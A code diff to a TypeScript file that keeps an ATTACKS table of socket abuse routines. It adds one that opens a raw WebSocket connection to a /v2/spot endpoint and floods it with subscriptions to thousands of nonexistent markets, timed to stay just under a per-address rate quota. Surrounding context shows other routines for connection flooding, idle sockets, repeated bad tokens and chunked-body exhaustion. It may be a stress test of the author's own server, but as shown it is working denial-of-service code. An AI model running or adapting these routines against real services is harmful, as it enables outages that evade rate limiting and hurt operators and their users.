@@ -29,6 +29,13 @@ const ATTACKS = {
     socket.on("drain", more);
     more();
   },
+  /** Sockets that follow markets that there are not, a thousand with each message, as often as the address may send one. */
+  names: (socket: Socket) => {
+    const upgrade = "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n";
+    socket.write(`GET /v2/spot HTTP/1.1\r\n${HEAD}${upgrade}Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n`);
+    const following = setInterval(() => socket.write(followFrame()), FOLLOWS_EVERY_MS);
+    socket.once("close", () => clearInterval(following));
+  },
   /** Connections that say nothing. */
   idle: () => {},
   /** Wrong tokens, one after the other. */
@@ -42,6 +49,21 @@ const ATTACKS = {
     ask();
   },
 };
+
+/** Together they stay below the quota of an address. */
+const FOLLOWS_EVERY_MS = 600;
+let names = 0;
+
+/** A masked text frame, RFC 6455, whose mask is nothing. */
+function followFrame(): Buffer {
+  const market_list = Array.from({ length: 1_000 }, () => [`NAME${names++}`, 5, "0", false]);
+  const text = Buffer.from(JSON.stringify({ id: 1, method: "depth.subscribe", params: { market_list } }));
+  const frame = Buffer.alloc(8 + text.length);
+  frame.set([0x81, 0x80 | 126], 0);
+  frame.writeUInt16BE(text.length, 2);
+  frame.set(text, 8);
+  return frame;
+}
 
 const CRUMBS = Buffer.from("1\r\n \r\n".repeat(10_000));
 let answers = 0;
